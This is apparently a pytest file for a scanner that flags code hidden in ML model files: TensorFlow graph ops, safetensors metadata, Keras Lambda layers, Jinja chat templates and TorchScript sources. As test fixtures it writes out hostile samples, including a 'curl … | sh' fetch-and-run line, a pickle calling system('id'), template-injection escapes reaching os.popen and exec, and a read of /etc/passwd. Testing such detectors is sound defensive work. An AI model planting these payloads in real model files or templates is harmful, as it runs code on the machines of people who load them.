"""Code riding along with a model, judged statically: safetensors metadata strings, TensorFlow graph ops, Keras
configs (HDF5 read by the h5py child, ``keras_metadata.pb``), chat templates and TorchScript ``code/`` sources.

Every malicious input has a benign twin that must stay quiet; protobuf is encoded by hand here, HDF5 files are
written with h5py, the benign Keras, GGUF and TorchScript files are the real ones of ``tests/data/benign``.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import zipfile
from pathlib import Path

import pytest

from tests.model.code_writers import field, node, saved_model, varint
from workbench import safeio
from workbench.model.embedded_code import metadata_references
from workbench.model.gguf_meta import read_gguf_header
from workbench.model.h5_reader import read_h5_attrs
from workbench.model.keras_format import keras_config_references
from workbench.model.limits import ScanLimits
from workbench.model.python_code import python_issues, torchscript_issues
from workbench.model.savedmodel import read_graph_ops, read_keras_metadata
from workbench.model.template_check import template_issues

BENIGN = Path(__file__).resolve().parents[1] / "data" / "benign"
PICKLE = b"\x80\x04cposix\nsystem\n(S'id'\ntR."


def _scan(data: bytes, **kwargs):
    return read_graph_ops(io.BytesIO(data), len(data), seekable=True, **kwargs)


def test_savedmodel_dangerous_ops_named_with_node_and_function():
    data = saved_model(
        [node("exfil", "PyFunc", token="pyfunc_7"), node("x", "MatMul")],
        {"__inference_serve_42": [node("steal", "ReadFile"), node("log", "PrintV2", output_stream="file:///tmp/o"),
                                  node("dbg", "DebugIdentity", debug_urls=["grpc://203.0.113.7:6064"]),
                                  node("ds", "TFRecordDataset")]},
    )  # fmt: skip
    scan = _scan(data)
    assert scan.error is None and scan.capped is None
    assert (scan.nodes, scan.functions) == (6, 1)
    assert [(r.severity, r.summary) for r in scan.refs] == [
        ("high", "op PyFunc at node 'exfil': runs a Python function of the loading process when the graph runs "
                 "(token 'pyfunc_7')"),
        ("high", "op ReadFile at node 'steal' of function '__inference_serve_42': reads a file when the graph runs"),
        ("high", "op PrintV2 at node 'log' of function '__inference_serve_42': prints to the file 'file:///tmp/o'"),
        ("high", "op DebugIdentity at node 'dbg' of function '__inference_serve_42': sends tensors to "
                 "'grpc://203.0.113.7:6064'"),
        ("medium", "op TFRecordDataset at node 'ds' of function '__inference_serve_42': reads files when the graph "
                   "runs"),
    ]  # fmt: skip
    assert all(r.kind == "tf_graph_op" for r in scan.refs)
    unseekable = read_graph_ops(io.BytesIO(data), len(data), seekable=False)
    assert unseekable.refs == scan.refs


def test_savedmodel_large_nodes_are_streamed():
    weights = node("w", "Const", value="\x00" * 100_000)  # over the in-memory node size: read field by field
    big = node("dbg", "DebugIdentity", pad="x" * 70_000, debug_urls=["file:///tmp/dump"])
    scan = _scan(saved_model([weights, big]))
    assert scan.nodes == 2 and scan.error is None
    assert [r.summary for r in scan.refs] == ["op DebugIdentity at node 'dbg': sends tensors to 'file:///tmp/dump'"]


def test_savedmodel_benign_graph_and_saver_functions_stay_quiet():
    data = saved_model(
        [node("w", "Const"), node("mm", "MatMul"), node("b", "Add"), node("p", "PrintV2", output_stream="stderr")],
        {"__inference_save": [node("s", "SaveV2"), node("r", "RestoreV2"), node("m", "MergeV2Checkpoints"),
                              node("f", "ShardedFilename"), node("c", "Copy")]},
    )  # fmt: skip
    scan = _scan(data)
    assert scan.refs == [] and scan.error is None
    assert scan.ops["SaveV2"] == 1 and scan.nodes == 9


def test_frozen_graphdef_and_broken_wire_format():
    graph = field(1, node("run", "EagerPyFunc"))
    assert [r.summary.split(":")[0] for r in _scan(graph, saved_model=False).refs] == ["op EagerPyFunc at node 'run'"]
    truncated = saved_model([node("exfil", "PyFunc"), node("w", "Const", dtype="DT_FLOAT")])[:-3]
    scan = _scan(truncated)  # read as far as it goes: the node before the cut is still judged
    assert scan.error == "at offset 2: a length runs past the end of the file (truncated), read as far as it goes"
    assert [r.summary.split(":")[0] for r in scan.refs] == ["op PyFunc at node 'exfil'"]
    zeros = varint(2 << 3 | 2) + varint(1000) + b"\x00" * 10
    assert _scan(zeros).error == "at offset 3: field number 0"


def test_keras_metadata_pb_lambda_layer():
    layer = {"class_name": "Lambda", "name": "exfil", "config": {"name": "exfil", "function_type": "lambda",
             "function": [base64.b64encode(b"os system popen").decode(), None, None]}}  # fmt: skip
    obj = varint(2 << 3) + varint(1) + field(3, "root.layer-0") + field(4, "_tf_keras_layer")
    obj += field(5, json.dumps(layer))
    dense = field(3, "root.layer-1") + field(5, json.dumps({"class_name": "Dense", "config": {"name": "d"}}))
    data = field(1, obj) + field(1, dense)
    scan = read_keras_metadata(io.BytesIO(data), len(data), seekable=True)
    assert scan.nodes == 2 and scan.error is None
    [ref] = scan.refs
    assert ref.kind == "keras_lambda" and ref.severity == "high"
    assert ref.summary.startswith("root.layer-0: Lambda layer 'exfil' carries Python code run on load")
    assert "its bytecode names os, system, popen" in ref.summary


# ---------------------------------------------------------------------------------------------------- safetensors
def test_safetensors_metadata_code_shell_and_url():
    scan = metadata_references({"format": "pt", "loader": "__import__('os').system('curl http://203.0.113.7/x | sh')"})
    assert [(r.severity, r.summary) for r in scan.refs] == [
        ("high", "__metadata__['loader']: Python call of __import__()"),
        ("high", "__metadata__['loader']: shell command 'curl http://203.0.113.7/x |'"),
        ("low", "__metadata__['loader']: URL 'http://203.0.113.7/x'"),
    ]
    assert scan.pickles == []


def test_safetensors_metadata_encoded_payloads():
    code = base64.b64encode(b"import subprocess; subprocess.call(['sh'])").decode()
    scan = metadata_references({"blob": base64.b64encode(PICKLE).decode(), "hexed": PICKLE.hex(), "code": code})
    assert scan.pickles == [("blob", PICKLE), ("hexed", PICKLE)]
    summaries = [r.summary for r in scan.refs]
    assert summaries[:2] == [
        f"__metadata__['blob']: base64 text of a pickle ({len(PICKLE)} bytes; analysed as a pickle)",
        f"__metadata__['hexed']: hex text of a pickle ({len(PICKLE)} bytes; analysed as a pickle)",
    ]
    assert "__metadata__['code'] (base64-decoded): Python import subprocess" in summaries
    assert "__metadata__['code'] (base64-decoded): Python call of subprocess.call()" in summaries


def test_ordinary_safetensors_metadata_is_quiet():
    kohya = {"format": "pt", "ss_tag_frequency": json.dumps({"img": {"cat": 3}}), "ss_network_dim": "32",
             "modelspec.date": "2024-01-01", "sha256": "0123456789abcdef" * 4, "name": "Mistral7Bv01",
             "torch.dtype": "torch.float16"}  # fmt: skip
    assert metadata_references(kohya).refs == []


# ---------------------------------------------------------------------------------------------------- Keras HDF5
def _h5(path: Path, model_config: str) -> Path:
    h5py = pytest.importorskip("h5py")
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = model_config
        f.attrs["keras_version"] = "2.15.0"
    return path


def _read(path: Path, **kwargs):
    with safeio.open_evidence(path) as fh:
        return read_h5_attrs(fd=fh.fileno(), **kwargs)


def test_h5_lambda_written_as_a_unicode_escape_and_its_bytecode_names(tmp_path):
    code = compile("lambda x: __import__('os').system('id')", "<model>", "eval")
    function = [base64.b64encode(marshal.dumps(code)).decode(), None, None]
    config = json.dumps(
        {
            "class_name": "Sequential",
            "config": {
                "layers": [
                    {
                        "class_name": "Lambda",
                        "config": {"name": "exfil", "function": function, "function_type": "lambda"},
                    }
                ]
            },
        }
    )
    escaped = config.replace('"Lambda"', '"\\u004cambda"')
    attrs = _read(_h5(tmp_path / "m.h5", escaped))
    assert attrs.error is None and attrs.names == ("keras_version", "model_config")
    assert "Lambda" not in attrs.attrs["model_config"]
    [ref] = keras_config_references(json.loads(attrs.attrs["model_config"]))
    assert ref.kind == "keras_lambda" and ref.severity == "high"
    assert ref.summary.startswith("Lambda layer 'exfil' carries Python code run on load (")
    assert ref.summary.endswith(
        " bytes of marshalled bytecode, never loaded; its bytecode names os, __import__, system)"
    )


def test_h5_custom_module_and_member_bytes(tmp_path):
    config = json.dumps({"class_name": "Functional", "config": {"layers": [
        {"module": "evil_pkg.layers", "class_name": "Backdoor", "config": {"name": "b"}}]}})  # fmt: skip
    data = _h5(tmp_path / "m.h5", config).read_bytes()
    attrs = read_h5_attrs(data=data)
    [ref] = keras_config_references(json.loads(attrs.attrs["model_config"]))
    assert (ref.kind, ref.severity) == ("keras_custom_object", "high")
    assert ref.summary == "object 'evil_pkg.layers.Backdoor': module 'evil_pkg.layers' imported on load"


def test_h5_attribute_over_the_cap_is_cut_and_garbage_is_an_error(tmp_path):
    attrs = _read(_h5(tmp_path / "big.h5", json.dumps({"pad": "x" * 50_000})), max_bytes=1000)
    assert attrs.cut == ("model_config",) and len(attrs.attrs["model_config"]) == 1000
    (tmp_path / "bad.h5").write_bytes(b"\x89HDF\r\n\x1a\n" + b"\xff" * 4000)
    bad = _read(tmp_path / "bad.h5")
    assert bad.attrs == {} and bad.error.startswith("h5py could not read it (OSError: ")


def test_h5_child_timeout_is_an_error(tmp_path, monkeypatch):
    from workbench.model import h5_reader

    monkeypatch.setattr(h5_reader, "TIMEOUT", 0.001)
    attrs = _read(_h5(tmp_path / "m.h5", "{}"))
    assert attrs.error == "h5py did not finish within 0.001 s"


def test_real_keras_files_are_quiet():
    attrs = _read(BENIGN / "keras" / "tiny_cnn.h5")
    assert attrs.error is None and set(attrs.attrs) == {"model_config", "training_config", "keras_version", "backend"}
    for name in ("model_config", "training_config"):
        assert keras_config_references(json.loads(attrs.attrs[name])) == []
    for name in ("tiny_cnn.keras", "residual_mlp.keras"):
        with zipfile.ZipFile(BENIGN / "keras" / name) as zf:
            assert keras_config_references(json.loads(zf.read("config.json"))) == []


# ---------------------------------------------------------------------------------------------------- chat templates
CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + "
    "'\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)
LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + "
    "message['role'] + '<|end_header_id|>\n\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}{% endif %}"
)


def test_template_escape_through_concatenated_keys_and_a_shadowed_range():
    source = "{% set range = lipsum['__glo' ~ 'bals__'] %}\n{{ range['os'].popen('id').read() }}"
    refs = template_issues(source)
    assert [(r.severity, r.line) for r in refs] == [("high", 1), ("high", 1), ("high", 2)]
    assert refs[0].summary == "redefines the global 'range' (its calls then run what the template put there)"
    assert refs[1].summary.startswith("item access to '__globals__', a name built from pieces")
    assert refs[1].summary.endswith("in `lipsum['__glo' ~ 'bals__']`")
    assert "item access to 'os' (template-injection gadget)" in refs[2].summary


def test_template_exec_through_a_folded_name():
    source = "{% set k = ['__glo', 'bals__']|join %}{{ cycler.__init__[k]['__builtins__']['exec']('1') }}"
    summary = " ".join(r.summary for r in template_issues(source) if r.severity == "high")
    assert "item access to '__globals__', a name built from pieces" in summary
    assert "item access to 'exec' (template-injection gadget)" in summary


def test_real_chat_templates_are_quiet():
    path = BENIGN / "gguf" / "tiny_llama_q8_0.gguf"
    with safeio.open_evidence(path) as fh:
        header = read_gguf_header(fh, path.stat().st_size, ScanLimits())
    assert list(header.chat_templates) == ["tokenizer.chat_template"]
    for source in (CHATML, LLAMA3, *header.chat_templates.values()):
        assert template_issues(source) == []


# ---------------------------------------------------------------------------------------------------- TorchScript
HOSTILE_TORCHSCRIPT = """class M(Module):
  __parameters__ = []
  def forward(self: __torch__.M, x: Tensor) -> Tensor:
    _0 = __import__("os").system("id")
    y = ops.evil.run(x)
    t = torch.from_file("/etc/passwd")
    q = self.__class__.__init__
    return torch.add(x, 1)
"""


def test_torchscript_source_reaching_outside_the_model():
    assert [(i.severity, i.what, i.line) for i in torchscript_issues(HOSTILE_TORCHSCRIPT)] == [
        ("high", "call of __import__()", 4),
        ("high", "attribute '__class__' (reaches interpreter internals)", 7),
        ("medium", "operator ops.evil.run of the namespace 'evil', not shipped with PyTorch", 5),
        ("high", "use of torch.from_file (maps a file or loads native code)", 6),
    ]


def test_real_torchscript_sources_are_quiet():
    checked = 0
    for path in sorted((BENIGN / "torch").glob("*")) + sorted((BENIGN / "torch-shipped").glob("*")):
        if not zipfile.is_zipfile(path):
            continue
        with zipfile.ZipFile(path) as zf:
            for name in zf.namelist():
                if "/code/" in name and name.endswith(".py"):
                    assert torchscript_issues(zf.read(name).decode()) == [], name
                    checked += 1
    assert checked >= 60


def test_python_call_reported_once():
    assert [i.what for i in python_issues("import os\nos.system('x')\n")] == ["import os", "call of os.system()"]
    assert python_issues("def f(:\n") is None


def test_walk_caps_are_reported():
    capped: list[str] = []
    config = {"layers": [{"class_name": "Dense"}] * 50 + [{"class_name": "Lambda", "config": {"name": "late"}}]}
    assert keras_config_references(config, max_nodes=20, capped=capped) == []
    assert capped == ["Keras config walk stopped after 20 values and 0 references: the rest not judged"]
    capped = []
    refs = template_issues("".join(f"{{{{ x.__a{i}__ }}}}" for i in range(60)), capped)
    assert len(refs) == 50 and capped == ["10 more constructs past the first 50 not reported"]
    capped = []
    assert len(python_issues("".join(f"eval('{i}')\n" for i in range(60)), capped=capped)) == 50
    assert capped == ["more than 50 constructs: the rest not judged"]


def test_text_graph_fields_in_any_order():
    from workbench.model.savedmodel import text_graph_ops

    text = (
        'node {\n  op: "PyFunc"\n  attr { key: "token" value { s: "t1" } }\n  name: "late"\n}\n'
        'node { name: "x" op: "MatMul" }\nnode { name: "y" op: "ReadFile" }\n'
    )
    scan = text_graph_ops(text)
    assert scan.nodes == 3
    assert [r.summary for r in scan.refs] == [
        "op PyFunc at node 'late': runs a Python function of the loading process when the graph runs (token 't1')",
        "op ReadFile at node 'y': reads a file when the graph runs",
    ]
